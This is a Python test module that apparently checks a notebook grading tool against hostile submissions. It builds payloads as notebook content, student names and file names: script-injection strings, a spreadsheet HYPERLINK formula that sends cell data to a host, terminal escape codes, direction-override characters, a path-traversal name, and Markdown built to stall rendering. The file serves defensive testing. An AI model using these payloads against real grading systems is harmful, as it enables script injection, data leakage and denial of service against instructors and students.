"""Harm by what is shown: scripts, pictures, formulas and terminal codes in feedback, tables, CSV and formgrader."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.hostile.case import ATTACKER, Case, NotebookJson, code_cell, markdown_cell, put

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)></svg>"
LINK = "[x](javascript:alert(1)) <a href='javascript:alert(1)'>x</a> <a href=' data:text/html,x'>y</a>"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp.exe\r\n\x08\x7f"
FORMULA = '=HYPERLINK("http://127.0.0.1/"&A1,"points")'
NAME = "sliding_windows.ipynb"


def _outputs(notebook: NotebookJson) -> None:
    rich = {
        "text/html": SCRIPT,
        "text/markdown": SCRIPT + LINK,
        "application/javascript": "alert(1)",
        "text/plain": "4",
    }
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {"output_type": "display_data", "data": rich, "metadata": {}},
                {"output_type": "stream", "name": "stderr", "text": ESCAPES},
                {"output_type": "error", "ename": SCRIPT, "evalue": SCRIPT, "traceback": [SCRIPT + ESCAPES]},
            ]


def _attachments(notebook: NotebookJson) -> None:
    attached = {"x.svg": {"image/svg+xml": SCRIPT}, "x.html": {"text/html": SCRIPT}}
    notebook["cells"].append(markdown_cell("![x](attachment:x.svg) ![y](attachment:x.html)", attachments=attached))
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": SCRIPT}}


def _add(*cells: dict[str, Any]) -> Callable[[NotebookJson], Any]:
    return lambda notebook: notebook["cells"].extend(cells)


def _title(notebook: NotebookJson) -> None:
    notebook["metadata"]["title"] = notebook["metadata"]["course"]["title"] = SCRIPT
    notebook["metadata"]["language_info"] = {"name": SCRIPT + ESCAPES}
    notebook["metadata"]["kernelspec"] = {"name": SCRIPT, "language": SCRIPT, "display_name": SCRIPT}
    for cell in notebook["cells"]:
        if "course" in cell["metadata"]:
            cell["metadata"]["course"]["title"] = SCRIPT


def _student(name: str) -> Callable[[Path, bytes], None]:
    def files(folder: Path, data: bytes) -> None:
        put(folder / name / "a1_convolution" / NAME, data)

    return files


def _single_files(folder: Path, data: bytes) -> None:
    put(folder / f"{ATTACKER}<img src=x onerror=alert(1)>_sliding_windows.ipynb", data)
    put(folder / f"{ATTACKER}{FORMULA.replace('/', '')}.ipynb", data)


def _modules(folder: Path, data: bytes) -> None:
    put(folder / ATTACKER / NAME.replace(".ipynb", "<svg onload=alert(1)>.ipynb"), data)
    put(folder / ATTACKER / "<script>alert(1)<x>.py", b"")
    put(folder / ATTACKER / f"\x1b[2J{FORMULA.replace('/', '')}.py", b"")
    put(folder / ATTACKER / "page.html", SCRIPT.encode())


def _raises(text: str) -> str:
    return f"""
        TEXT = {text!r}

        class Odd(Exception):
            pass

        Odd.__name__ = Odd.__qualname__ = TEXT

        def conv_output_size(*args, **kwargs):
            print(TEXT)
            print(TEXT, file=sys.stderr)
            if args[0] % 2:
                raise Odd(TEXT)  # {SCRIPT}
            return TEXT

        same_padding = conv_output_size
        """


CASES = (
    Case(
        id="scripts in outputs",
        threat="17 outputs",
        tries="Rich outputs and tracebacks run where the notebook is shown.",
        edit=_outputs,
    ),
    Case(
        id="scripts printed, returned and raised",
        threat="17 outputs",
        tries="What the code says stands in feedback.",
        code=_raises(SCRIPT + LINK + "{{ 7 * 7 }}{% raw %}</pre></details>"),
    ),
    Case(
        id="scripts in names of types and functions",
        threat="17 outputs",
        tries="Names of a result's class stand in messages.",
        code=f"""
            Odd = type({SCRIPT!r}, (), {{}})
            def conv_output_size(*args, **kwargs):
                return Odd()
            same_padding = {SCRIPT!r}
            """,
    ),
    Case(
        id="scripts in attachments and widgets",
        threat="17 attachments",
        tries="An attached picture is a page.",
        edit=_attachments,
    ),
    Case(
        id="SVG in text and code",
        threat="17 SVG",
        tries="A picture with handlers, references and foreign elements.",
        edit=_add(
            markdown_cell(
                "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script><foreignObject>"
                "<iframe src='javascript:alert(1)'></iframe></foreignObject><a xlink:href='javascript:alert(1)'>x</a>"
                "<use href='data:image/svg+xml;base64,x'/><animate onbegin=alert(1) /></svg>"
            ),
            code_cell("from IPython.display import SVG\ndisplay(SVG('<svg onload=\"alert(1)\"/>'))"),
        ),
    ),
    Case(
        id="scripts in Markdown",
        threat="17 Markdown",
        tries="Tags, handlers, links, forms and frames in text cells.",
        edit=_add(
            markdown_cell(SCRIPT + LINK),
            markdown_cell("<iframe src=//example.edu></iframe><form action=//example.edu><input autofocus onfocus=x>"),
            markdown_cell("<details open ontoggle=alert(1)><style>@import '//example.edu'</style><base href=//x>"),
            markdown_cell("$\\href{javascript:alert(1)}{x}$ $$\\unicode{<script>alert(1)</script>}$$"),
            markdown_cell("<<script>script>alert(1)<</script>/script> <img/src/onerror=alert(1)>"),
        ),
    ),
    Case(
        id="Markdown that takes hours to render",
        threat="17 Markdown",
        tries="Beginnings without an end, each of which is sought for: formgrader stops with the notebook.",
        edit=_add(*(markdown_cell(f"{text} " * (400_000 // len(text))) for text in ("\\begin{a}", "![a](", "[]: <"))),
    ),
    Case(
        id="scripts in titles, kernels and languages",
        threat="17 Markdown",
        tries="Metadata is shown as headings and in remarks.",
        edit=_title,
    ),
    Case(
        id="a script as a student's name",
        threat="17 student names",
        tries="The folder's name stands on every page.",
        files=_student("mallory<script>alert(1)<"),
    ),
    Case(
        id="quotes and braces as a student's name",
        threat="17 student names",
        tries="Attributes end, and templates run.",
        files=_student("mallory' onload='alert(1)' {{7*7}} [red]x[/] %s ${x}"),
    ),
    Case(
        id="a formula as a student's name",
        threat="17 student names",
        tries="The first column of a table.",
        files=_student("=1+1 mallory"),
    ),
    Case(
        id="a path as a student's name",
        threat="17 student names",
        tries="Feedback is written somewhere else.",
        files=_student("..mallory\\..\\..\\x"),
    ),
    Case(
        id="scripts as file names",
        threat="17 file names",
        tries="Names are repeated in remarks and problems.",
        files=_modules,
    ),
    Case(
        id="scripts as names of single files",
        threat="17 file names",
        tries="The student's name is read from the file's.",
        files=_single_files,
    ),
    Case(
        id="formulas in messages",
        threat="17 formulas",
        tries="A spreadsheet runs what begins with =, + or @, also behind a tab or in wide characters.",
        code=_raises(FORMULA) + _raises("\uff1d1+1;=1+1\t@SUM(1)").replace("conv_output_size", "same_padding"),
        after=(f"raise Exception({FORMULA!r})", "raise Exception('@SUM(1+1)')", "raise Exception('\\t=1+1')"),
    ),
    Case(
        id="terminal codes in messages",
        threat="17 terminal escapes",
        tries="Titles, colours and cleared screens where an instructor reads the table.",
        code=_raises(ESCAPES),
        after=(f"raise Exception({ESCAPES!r})",),
    ),
    Case(
        id="terminal codes in a student's name",
        threat="17 terminal escapes",
        tries="A folder whose name clears the screen.",
        files=_student("mallory\x1b[2J\x1b]0;owned\x07"),
    ),
    Case(
        id="direction marks in a student's name",
        threat="17 terminal escapes",
        tries="A name that reorders what stands around it.",
        files=_student("mallory\u202e\u2066gnp"),
    ),
)
